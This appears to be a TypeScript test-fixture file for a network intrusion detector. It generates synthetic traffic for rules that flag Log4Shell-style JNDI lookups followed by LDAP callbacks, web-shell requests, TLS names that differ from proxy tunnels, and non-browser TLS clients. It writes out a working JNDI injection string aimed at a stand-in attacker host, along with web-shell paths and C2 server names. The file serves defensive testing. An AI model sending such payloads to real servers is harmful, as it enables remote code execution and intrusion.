import { http, request } from '../protocols/text.ts'
import { tls } from '../protocols/tls.ts'
import { type Captures, single } from '../scenario.ts'
import { tcpFlags, type Wire } from '../wire.ts'

const minuteMs = 60_000
const octets = 'application/octet-stream'
const portal = { from: '203.0.113.45', to: '10.20.3.15' }
const lookupText = '$' + '{jndi:ldap://198.51.100.9:1389/a}'

function shellCall(
  wire: Wire,
  target: string,
  more: { headers?: Record<string, string>; method?: string; status?: string; type?: string } = {},
): void {
  http(wire, {
    ...portal,
    method: more.method ?? 'POST',
    target,
    headers: { 'Content-Type': octets, ...more.headers },
    body: Buffer.alloc(640, 0x9e),
    status: more.status ?? '200 OK',
    answerHeaders: { 'Content-Type': more.type ?? octets },
    answer: Buffer.alloc(320, 0xe9),
  })
}

function lookedUp(wire: Wire, to = portal.to, text = lookupText): void {
  http(wire, {
    from: portal.from,
    to,
    target: '/login',
    headers: { 'X-Api-Version': text },
    agent: `Mozilla/5.0 ${text}`,
  })
}

function callsOut(wire: Wire, from: string, to: string, port: number): void {
  wire
    .tcp({ from, to, port })
    .send(Buffer.from('300c020101600702010304008000', 'hex'))
    .receive(Buffer.from('300c02010161070a010004000400', 'hex'))
    .close()
}

function proxied(
  wire: Wire,
  host: string,
  serverName: string,
  more: { agent?: string; alpn?: string[]; waitMs?: number } = {},
): void {
  const talk = wire.tcp({ from: '10.20.1.7', to: '10.20.0.8', port: 3128 })
  talk.send(`CONNECT ${host}:443 HTTP/1.1\r\nHost: ${host}:443\r\nUser-Agent: ${more.agent ?? 'curl/8.5.0'}\r\n\r\n`)
  talk.receive('HTTP/1.1 200 Connection established\r\n\r\n')
  wire.wait(more.waitMs ?? 3)
  tls(talk, { serverName, alpn: more.alpn ?? ['h2', 'http/1.1'] }).close()
}

const chrome =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36'

export const web: Record<string, Captures> = {
  'lookup-then-callback': {
    fires(wire) {
      for (const port of [389, 1389, 1099]) {
        lookedUp(wire)
        wire.wait(4.8 * minuteMs)
        callsOut(wire, portal.to, '198.51.100.9', port)
        wire.scenario()
      }
    },
    silent(wire) {
      lookedUp(wire)
      wire.wait(5.3 * minuteMs)
      callsOut(wire, portal.to, '198.51.100.9', 1389)
      wire.scenario()
      // Another host calls; it calls the directory of the house; it calls another port; before; without any lookup.
      lookedUp(wire)
      callsOut(wire, '10.20.3.99', '198.51.100.9', 1389)
      wire.scenario()
      for (const directory of ['10.20.0.2', '172.16.0.2', '192.168.0.2', '100.64.0.2']) {
        lookedUp(wire)
        callsOut(wire, portal.to, directory, 389)
        wire.scenario()
      }
      http(wire, { from: '2001:db8:0:0:0:0:0:45', to: 'fd00:0:0:0:0:0:0:15', agent: lookupText })
      callsOut(wire, 'fd00:0:0:0:0:0:0:15', 'fd00:0:0:0:0:0:0:2', 389)
      wire.scenario()
      // The directory over UDP, which no lookup uses.
      lookedUp(wire)
      wire.udp(portal.to, '198.51.100.9', [40_002, 389], Buffer.from('300c020101600702010304008000', 'hex'))
      wire.udp('198.51.100.9', portal.to, [389, 40_002], Buffer.from('300c02010161070a010004000400', 'hex'))
      wire.scenario()
      lookedUp(wire)
      callsOut(wire, portal.to, '198.51.100.9', 443)
      wire.scenario()
      callsOut(wire, portal.to, '198.51.100.9', 1389)
      wire.wait(minuteMs)
      lookedUp(wire)
      wire.scenario()
      lookedUp(wire, portal.to, 'Mozilla/5.0')
      callsOut(wire, portal.to, '198.51.100.9', 1389)
      wire.scenario()
      // The wall lets nothing out: no conversation comes of it.
      lookedUp(wire)
      wire.segment(portal.to, '198.51.100.9', [40_001, 1389], tcpFlags.syn, {})
    },
  },
  'web-shell-conversation': single(
    (wire) => {
      for (const target of ['/upload/x.jsp', '/static/a.jspx', '/img/1.php', '/app/b.aspx', '/h/c.ashx'])
        shellCall(wire, target)
    },
    (wire) => {
      shellCall(wire, '/upload/report.do')
      shellCall(wire, '/upload/x.jsp', { headers: { Referer: 'http://portal.gov.example/upload/' } })
      shellCall(wire, '/upload/x.jsp', { headers: { 'Content-Type': 'multipart/form-data; boundary=x' } })
      shellCall(wire, '/upload/x.jsp', { method: 'PUT' })
      shellCall(wire, '/upload/x.jsp', { status: '404 Not Found' })
      shellCall(wire, '/x.jsp.bak/list')
    },
  ),
  'tls-name-differs-from-tunnel': {
    fires(wire) {
      proxied(wire, 'cdn.example.net', 'c2.hidden.example')
      wire.scenario()
      proxied(wire, 'cdn.example.net', 'c2.hidden.example', { waitMs: 57_000 })
    },
    silent(wire) {
      proxied(wire, 'www.example.net', 'www.example.net')
      wire.scenario()
      proxied(wire, 'www.example.net', 'www.example.net')
      wire.wait(2_000)
      proxied(wire, 'mail.example.net', 'mail.example.net')
      wire.scenario()
      // Named differently an hour later, in a connection that stays.
      const talk = wire.tcp({ from: '10.20.1.7', to: '10.20.0.8', port: 3128 })
      talk.send('CONNECT cdn.example.net:443 HTTP/1.1\r\nHost: cdn.example.net:443\r\nUser-Agent: curl/8.5.0\r\n\r\n')
      talk.receive('HTTP/1.1 200 Connection established\r\n\r\n')
      wire.wait(65_000)
      tls(talk, { serverName: 'c2.hidden.example' }).close()
      wire.scenario()
      const two = wire.tcp({ from: '10.20.1.7', to: '10.20.0.8', port: 80 })
      two.send('GET http://cdn.example.net/ HTTP/1.1\r\nHost: cdn.example.net\r\nUser-Agent: curl/8.5.0\r\n\r\n')
      two.receive('HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok')
      tls(two, { serverName: 'c2.hidden.example' }).close()
      wire.scenario()
      const direct = wire.tcp({ from: '10.20.1.7', to: '198.51.100.9', port: 443 })
      tls(direct, { serverName: 'c2.hidden.example' }).close()
    },
  },
  'tls-client-is-no-browser': {
    fires(wire) {
      proxied(wire, 'www.example.net', 'www.example.net', { agent: chrome, alpn: [], waitMs: 57_000 })
    },
    silent(wire) {
      const ends = { from: '10.20.1.7', to: '10.20.0.8', port: 3128, fromPort: 50_001 }
      // The same ports, used again: a page without a tunnel before, and the other way round.
      const page = wire.tcp(ends)
      request(page, { agent: chrome })
      page.close()
      wire.wait(1_000)
      tls(wire.tcp(ends), { serverName: 'www.example.net', alpn: [] }).close()
      wire.scenario()
      tls(wire.tcp(ends), { serverName: 'www.example.net', alpn: [] }).close()
      wire.wait(1_000)
      wire
        .tcp(ends)
        .send(`CONNECT www.example.net:443 HTTP/1.1\r\nHost: www.example.net:443\r\nUser-Agent: ${chrome}\r\n\r\n`)
        .receive('HTTP/1.1 407 Proxy Authentication Required\r\nContent-Length: 0\r\n\r\n')
        .close()
      wire.scenario()
      proxied(wire, 'www.example.net', 'www.example.net', { agent: chrome })
      wire.scenario()
      proxied(wire, 'www.example.net', 'www.example.net', { agent: 'python-requests/2.32', alpn: [] })
      wire.scenario()
      const talk = wire.tcp({ from: '10.20.1.7', to: '10.20.0.8', port: 3128 })
      talk.send(`CONNECT www.example.net:443 HTTP/1.1\r\nHost: www.example.net:443\r\nUser-Agent: ${chrome}\r\n\r\n`)
      talk.receive('HTTP/1.1 200 Connection established\r\n\r\n')
      wire.wait(65_000)
      tls(talk, { serverName: 'www.example.net', alpn: [] }).close()
      wire.scenario()
      proxied(wire, 'www.example.net', 'www.example.net', { agent: chrome })
      wire.wait(1_000)
      proxied(wire, 'www.example.net', 'www.example.net', { alpn: [] })
      wire.scenario()
      const fetched = wire.tcp({ from: '10.20.1.7', to: '10.20.0.8', port: 3128 })
      fetched.send(`GET http://www.example.net/ HTTP/1.1\r\nHost: www.example.net\r\nUser-Agent: ${chrome}\r\n\r\n`)
      fetched.receive('HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok')
      fetched.close()
      wire.scenario()
      // Twice the browser, in one connection.
      for (let index = 0; index < 2; index++)
        proxied(wire, `www${index}.example.net`, `www${index}.example.net`, { agent: chrome })
    },
  },
}
